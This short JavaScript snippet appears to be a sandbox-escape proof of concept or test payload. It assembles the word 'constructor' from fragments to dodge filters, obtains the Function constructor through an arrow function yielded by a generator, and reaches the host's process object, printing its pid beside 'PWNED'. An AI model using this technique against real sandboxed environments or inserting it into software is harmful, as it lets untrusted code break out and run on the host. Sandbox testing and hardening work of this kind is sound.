const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield ['a', (x) => x]; } }
const o = Object.fromEntries(new G());
console.log('PWNED', o.a[w]('return process')().pid);
